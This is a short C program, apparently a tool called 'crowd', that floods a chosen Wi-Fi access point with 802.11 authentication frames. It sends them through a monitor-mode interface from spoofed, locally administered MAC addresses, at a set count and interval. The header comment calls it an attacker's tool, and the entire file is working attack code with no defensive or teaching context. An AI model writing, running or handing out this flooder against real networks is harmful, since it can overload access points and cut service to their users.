/*
 * An attacker in Wi-Fi's reach: authentication frames (802.11, open system) from addresses that are
 * nobody's, through an interface in monitor mode.
 *
 *   crowd INTERFACE BSSID COUNT MILLISECONDS        so many, one after so long
 */
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

struct __attribute__((packed)) frame {
    unsigned char radiotap[8]; /* nothing in it but its length */
    unsigned char control[2], duration[2];
    unsigned char to[6], from[6], bssid[6];
    unsigned char sequence[2];
    unsigned char algorithm[2], transaction[2], status[2];
};

int main(int argc, char *argv[])
{
    struct frame frame = {.radiotap = {0, 0, 8}, .control = {0xB0}, .transaction = {1}};
    struct sockaddr_ll link = {.sll_family = AF_PACKET, .sll_protocol = 0};
    unsigned bssid[6];
    int fd = socket(AF_PACKET, SOCK_RAW, 0), count = argc == 5 ? atoi(argv[3]) : 0;

    if (count == 0 || sscanf(argv[2], "%x:%x:%x:%x:%x:%x", &bssid[0], &bssid[1], &bssid[2],
                             &bssid[3], &bssid[4], &bssid[5]) != 6) {
        fputs("crowd INTERFACE BSSID COUNT MILLISECONDS\n", stderr);
        return 2;
    }
    link.sll_ifindex = (int)if_nametoindex(argv[1]);
    if (fd < 0 || link.sll_ifindex == 0 || bind(fd, (struct sockaddr *)&link, sizeof(link)) < 0) {
        perror(argv[1]);
        return 1;
    }
    for (int i = 0; i < 6; i++) {
        frame.to[i] = frame.bssid[i] = (unsigned char)bssid[i];
    }
    frame.from[0] = 0x02; /* locally administered */
    for (int i = 0; i < count; i++) {
        frame.from[4] = (unsigned char)(i >> 8);
        frame.from[5] = (unsigned char)i;
        frame.sequence[0] = (unsigned char)(i << 4);
        frame.sequence[1] = (unsigned char)(i >> 4);
        if (send(fd, &frame, sizeof(frame), 0) != (ssize_t)sizeof(frame)) {
            perror("send");
            return 1;
        }
        usleep((useconds_t)atoi(argv[4]) * 1000);
    }
    return 0;
}
